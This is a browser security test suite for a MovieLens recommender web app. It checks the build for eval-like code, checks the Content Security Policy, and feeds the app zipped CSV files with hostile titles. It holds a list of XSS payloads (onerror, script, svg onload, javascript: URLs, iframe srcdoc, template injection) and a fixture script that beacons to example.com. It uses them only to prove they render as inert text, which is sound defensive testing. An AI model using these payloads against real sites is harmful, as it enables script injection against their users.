// Security on the production build: no eval-like code in dist and a CSP without unsafe-eval/unsafe-inline; a hostile
// movies.csv renders as literal text on every screen (no script runs, no CSP violation); every new-tab link is
// rel="noopener noreferrer"; imported files are parsed as bytes, never executed (a zip of .js/.html is refused).
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { plantedLowRank } from '../../src/engine/synth';
import { writeRelease } from '../../src/engine/movielens/writeRelease';
import { contentSecurityPolicy, netlifyHeadersFile, permissionsPolicy } from '../../scripts/headers';
import { root, screenshot, storeCounts, watchErrors, type Page } from './harness';
import { showView, useServedApp } from './app';

const app = useServedApp();

function files(dir: string, ext: RegExp): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? files(p, ext) : ext.test(n) ? [p] : [];
  });
}

/** Code that turns strings into code: eval, new Function, Function('…'), setTimeout/setInterval with a string. */
const EVAL_LIKE: [string, RegExp][] = [
  ['eval(', /\beval\s*\(/],
  ['new Function(', /\bnew\s+Function\s*\(/],
  ['Function("…")', /(?<![\w$.])Function\s*\(\s*['"`]/],
  ['string setTimeout/setInterval', /\bset(?:Timeout|Interval)\s*\(\s*['"`]/],
];

test('the build has no eval-like code, no inline script, and the CSP allows neither', () => {
  const js = files(join(root, 'dist'), /\.js$/);
  expect(js.some((f) => f.includes('engine.worker'))).toBe(true); // the workers are scanned too
  expect(js.some((f) => /[\\/]sw\.js$/.test(f))).toBe(true); // and the service worker with workbox
  const hits: string[] = [];
  for (const f of js) {
    const text = readFileSync(f, 'utf8');
    for (const [what, re] of EVAL_LIKE) {
      const m = re.exec(text);
      if (m) hits.push(`${f.slice(root.length + 1)}: ${what} at …${text.slice(Math.max(0, m.index - 40), m.index + 40)}…`);
    }
  }
  expect(hits).toEqual([]);

  // The pattern finds what it is meant to find (so an empty list means something).
  expect(EVAL_LIKE.filter(([, re]) => re.test('x=eval("1");y=new Function("a","return a");Function("return this")();setTimeout("go()",1)'))).toHaveLength(4);
  expect(EVAL_LIKE.some(([, re]) => re.test('retrieval(x); setTimeout(() => go(), 1); fn.Function(x)'))).toBe(false);

  const html = readFileSync(join(root, 'dist/index.html'), 'utf8');
  expect(html.match(/<script\b(?![^>]*\bsrc=)[^>]*>/g) ?? []).toEqual([]); // no inline script element
  expect(html).not.toMatch(/\son[a-z]+\s*=/i); // no inline event handler

  const directives = new Map(contentSecurityPolicy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  const scriptSrc = directives.get('script-src') ?? directives.get('default-src')!;
  // Same-origin scripts, plus compiling WebAssembly (the ALS kernels): no JavaScript eval.
  expect(scriptSrc).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives.get('worker-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(contentSecurityPolicy.replace("'wasm-unsafe-eval'", '')).not.toMatch(/unsafe-eval|unsafe-inline|unsafe-hashes|\*/);
  expect(readFileSync(join(root, 'dist/_headers'), 'utf8')).toBe(netlifyHeadersFile()); // what Netlify serves
  // Powerful features: the camera for the app itself (movie night's QR scanner), the rest it never uses off.
  expect(permissionsPolicy.split(', ')).toContain('camera=(self)');
  expect(permissionsPolicy.split(', ').filter((d) => !d.endsWith('=()'))).toEqual(['camera=(self)']);
});

/** Titles (and genres) made to run code if they were ever rendered as HTML or used as a URL. */
const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '<a href="javascript:window.__pwned=1" target=_blank>click</a>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "{{constructor.constructor('window.__pwned=1')()}}",
];
const csvField = (s: string) => `"${s.replaceAll('"', '""')}"`;
const titleOf = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} #${i}`;

function hostileRelease(extra: Record<string, string> = {}, links?: string) {
  const synth = plantedLowRank({ users: 200, items: 60, rank: 3, density: 0.4, noise: 0.3, seed: 13, clamp: true });
  const r = writeRelease(synth.columns, synth.nItems);
  const movies = r['movies.csv'].split('\r\n').map((line, k) => {
    if (k === 0 || !line) return line;
    const i = k - 1;
    const id = line.slice(0, line.indexOf(','));
    const genres = i % 3 === 0 ? '<img src=x onerror=window.__pwned=1>|Drama' : 'Comedy';
    return `${id},${csvField(`${titleOf(i)} (${1990 + (i % 20)})`)},${csvField(genres)}`;
  });
  const entries: Record<string, Uint8Array> = {
    'ml-hostile/ratings.csv': strToU8(r['ratings.csv']),
    'ml-hostile/movies.csv': strToU8(movies.join('\r\n')),
    'ml-hostile/links.csv': strToU8(links ?? r['links.csv']),
  };
  for (const [k, v] of Object.entries(extra)) entries[k] = strToU8(v);
  return { name: '<img src=x onerror=window.__pwned=1>.zip', mimeType: 'application/zip', buffer: Buffer.from(zipSync(entries)) };
}

/** Every title on screen is one of ours, as literal text; no element a payload would have made exists. */
async function checkScreen(page: Page, where: string): Promise<number> {
  const state = (await page.evaluate(`({
    pwned: window.__pwned,
    csp: window.__csp.slice(),
    injected: document.querySelectorAll('main img, main script, main iframe, main a[href^="javascript"], [onerror], [onload], [srcdoc]').length, // the taste map is an SVG of ours: a payload's svg would carry onload
    titles: Array.from(document.querySelectorAll('main .title, main h2#movie-h')).map((e) => e.textContent),
    blank: Array.from(document.querySelectorAll('a[target=_blank]')).map((a) => [a.getAttribute('href'), a.getAttribute('rel')]),
  })`)) as { pwned: unknown; csp: string[]; injected: number; titles: string[]; blank: [string, string | null][] };
  expect(state.pwned, where).toBeUndefined();
  expect(state.csp, where).toEqual([]);
  expect(state.injected, where).toBe(0);
  const hostile = state.titles.filter((t) => PAYLOADS.some((p) => t.includes(p)));
  for (const rel of state.blank.map(([, r]) => (r ?? '').split(/\s+/))) expect(rel, where).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  expect(state.blank.length, where).toBeGreaterThan(0); // the footer's GroupLens link at least
  return hostile.length;
}

test('hostile titles and genres render as text on every screen; no script runs; new-tab links are noopener noreferrer', async () => {
  const context = await app.browser.newContext({ viewport: { width: 1200, height: 900 } });
  await context.route('**/data/manifest.json', (route) => route.fulfill({ json: { datasets: [] } }));
  await context.addInitScript(`window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));`);
  const page = await context.newPage();
  const errors = watchErrors(page);
  const offOrigin: string[] = [];
  page.on('request', (r) => !r.url().startsWith(app.url) && offOrigin.push(r.url()));
  await page.goto(app.url);
  await page.getByRole('heading', { name: 'Bring your own MovieLens files' }).waitFor();
  await checkScreen(page, 'bring your own');
  const input = page.locator('input[type=file]');

  // A hostile links.csv is refused; its text shows literally in the message, and nothing is stored.
  const badLinks = 'movieId,imdbId,tmdbId\r\n1,<img src=x onerror=window.__pwned=1>,1\r\n';
  await input.setInputFiles(hostileRelease({}, badLinks));
  const alert = page.getByRole('alert');
  await alert.waitFor();
  expect(await alert.textContent()).toContain('ml-hostile/links.csv, line 2: expected a numeric imdbId, found "<img src=x onerror=window.__pwned=1>"');
  expect(await storeCounts(page)).toMatchObject({ datasets: 0, movieBlocks: 0 });
  await checkScreen(page, 'refused links');

  // The release with hostile titles and genres, plus script files in the zip: imported, the scripts skipped unread.
  await input.setInputFiles(hostileRelease({ 'ml-hostile/evil.js': 'window.__pwned = 1;', 'ml-hostile/index.html': '<script>window.__pwned=1</script>' }));
  await page.getByTestId('recommendations').locator('li').nth(19).waitFor({ timeout: 120_000 });
  expect(await checkScreen(page, 'recommendations (popular)')).toBeGreaterThanOrEqual(20);

  // Search results.
  await page.getByLabel('Search movies by title').fill('img onerror');
  await page.getByTestId('to-rate').locator('li .title', { hasText: '<img src=x onerror="window.__pwned=1"> #0' }).waitFor();
  expect(await checkScreen(page, 'search')).toBeGreaterThan(0);
  const rows = page.getByTestId('to-rate').locator('li');
  for (let k = 0; k < 3; k++) {
    await rows.nth(k).getByTitle(`${5 - k} stars`, { exact: true }).click(); // search results rate by click or by keys 1–5
    await page.getByTestId('rated-count').filter({ hasText: new RegExp(`^${k + 1}$`) }).waitFor();
  }
  await page.getByLabel('Search movies by title').fill('');
  await page.getByRole('heading', { name: 'Recommended for you' }).waitFor();
  expect(await checkScreen(page, 'recommendations (personal)')).toBeGreaterThanOrEqual(20);
  expect(await page.getByTestId('recommendations').textContent()).toMatch(/Because you rated <img src=x onerror="window\.__pwned=1"> #\d+/);

  // The movie panel with similar movies, outbound links and hostile genres.
  await page.getByTestId('recommendations').locator('li').first().getByRole('button').first().click();
  const panel = page.getByTestId('movie-panel');
  await panel.getByTestId('similar').locator('li').first().waitFor();
  const heading = await panel.locator('#movie-h').textContent();
  expect(PAYLOADS.some((p) => heading!.startsWith(`${p} #`))).toBe(true);
  expect(await checkScreen(page, 'movie panel')).toBeGreaterThan(5);
  const links = await panel.locator('a[target=_blank]').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel')]));
  expect(links.map(([t]) => t)).toEqual(['IMDb', 'TMDB']);
  for (const [, href, rel] of links) {
    expect(href).toMatch(/^https:\/\/www\.(imdb\.com\/title\/tt\d+\/|themoviedb\.org\/movie\/\d+)$/);
    expect(rel).toBe('noopener noreferrer');
  }
  // A similar movie opens in the same panel.
  await panel.getByTestId('similar').locator('li').first().getByRole('button').first().click();
  await panel.getByTestId('similar').locator('li').first().waitFor();
  expect(await checkScreen(page, 'movie panel (similar)')).toBeGreaterThan(5);
  await screenshot(page, 'security-movie-panel');
  await panel.getByRole('button', { name: 'Close', exact: true }).click();

  await showView(page, 'My ratings');
  await page.getByTestId('my-ratings').locator('li').nth(2).waitFor();
  expect(await checkScreen(page, 'my ratings')).toBe(3);
  await showView(page, 'Model lab');
  await page.getByTestId('lab-model').waitFor();
  await checkScreen(page, 'model lab');
  expect(await page.getByTestId('lab-dataset').textContent()).toContain('<img src=x onerror=window.__pwned=1>');
  await showView(page, 'Data');
  const dataset = page.getByTestId('dataset');
  await dataset.waitFor();
  await checkScreen(page, 'data');
  expect(await dataset.locator('.title').textContent()).toBe('<img src=x onerror=window.__pwned=1>');
  await screenshot(page, 'security-data');

  // The script files were skipped by name, never loaded: no request for them, the dataset's notes say so.
  const notes = (await page.evaluate(`new Promise((ok) => {
    const req = indexedDB.open('pocketlens');
    req.onsuccess = () => { const g = req.result.transaction('datasets').objectStore('datasets').getAll(); g.onsuccess = () => { ok(g.result[0].notes); req.result.close(); }; };
  })`)) as string[];
  expect(notes).toEqual(expect.arrayContaining(['skipped ml-hostile/evil.js', 'skipped ml-hostile/index.html']));
  expect(offOrigin).toEqual([]);
  expect(errors).toEqual([]);
  await context.close();
});

test('a zip of only .js and .html files is refused with a clear message; nothing runs, nothing is stored', async () => {
  const context = await app.browser.newContext();
  await context.route('**/data/manifest.json', (route) => route.fulfill({ json: { datasets: [] } }));
  await context.addInitScript(`window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective));`);
  const page = await context.newPage();
  const errors = watchErrors(page);
  await page.goto(app.url);
  await page.getByRole('heading', { name: 'Bring your own MovieLens files' }).waitFor();
  const zip = zipSync({
    'site/index.html': strToU8('<!doctype html><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'),
    'site/app.js': strToU8('window.__pwned = 1; navigator.sendBeacon("https://example.com", "x");'),
    'site/ratings.js': strToU8('window.__pwned = 1;'),
  });
  await page.locator('input[type=file]').setInputFiles({ name: 'site.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) });
  const alert = page.getByRole('alert');
  await alert.waitFor();
  const text = (await alert.textContent())!;
  expect(text).toMatch(/^site\.zip: expected a MovieLens release: ratings\.csv \+ movies\.csv .*; found /);
  expect(text).toContain('site/app.js');
  expect(await page.evaluate('[window.__pwned, window.__csp.length]')).toEqual([undefined, 0]);
  expect(await storeCounts(page)).toMatchObject({ datasets: 0, movieBlocks: 0, ratingChunks: 0, ratingTimes: 0 });
  expect(errors).toEqual([]);

  // The watchers work, and the served CSP is the last line: an inline script injected into the page is refused.
  await page.evaluate(`(() => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 2'; document.body.append(s); })()`);
  await expect.poll(() => page.evaluate('window.__csp.length')).toBe(1);
  expect(await page.evaluate('[window.__pwned, window.__csp[0]]')).toEqual([undefined, 'script-src-elem']);
  expect(errors).toHaveLength(1);
  expect(errors[0]).toMatch(/Content Security Policy/);
  await context.close();
});
